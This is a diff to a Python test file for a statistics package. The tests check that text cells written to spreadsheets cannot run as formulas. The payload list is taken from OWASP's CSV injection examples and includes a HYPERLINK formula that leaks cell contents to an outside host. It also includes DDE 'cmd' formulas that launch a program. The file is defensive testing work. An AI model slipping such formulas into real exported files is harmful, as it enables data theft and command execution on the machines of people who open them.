@@ -1,4 +1,4 @@
-"""Tests for cprstats.neutralise: no text cell cprstats writes can run as a spreadsheet formula.
+"""Tests for cprstats.io.spreadsheet: no text cell cprstats writes can run as a spreadsheet formula.
 
 Reference values: the formula trigger characters (= + - @ tab, carriage return) and the
 single-quote prefix come from the OWASP "CSV Injection" page
@@ -16,12 +16,12 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from cprstats import neutralise
+import cprstats.io.spreadsheet as neutralise
 from cprstats.errors import ParameterError
 
 # OWASP CSV Injection page, "Attack" examples
 OWASP_PAYLOADS = [
-    "=HYPERLINK(\"http://contextis.co.uk?leak=\"&A1&A2,\"Error: please click for further information\")",
+    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
     "=cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "+1+cmd|' /C calc'!A0",
@@ -114,5 +114,3 @@ def test_write_csv_can_skip_neutralising_and_roundtrips(tmp_path):
     p = neutralise.write_csv(df, tmp_path / "t.csv", neutralise=False)
     back = pd.read_csv(p, encoding="utf-8-sig")
     assert back["a"].tolist() == ["=x", "ŵ"] and back["b"].tolist() == [1.25, -2.0]
-
-
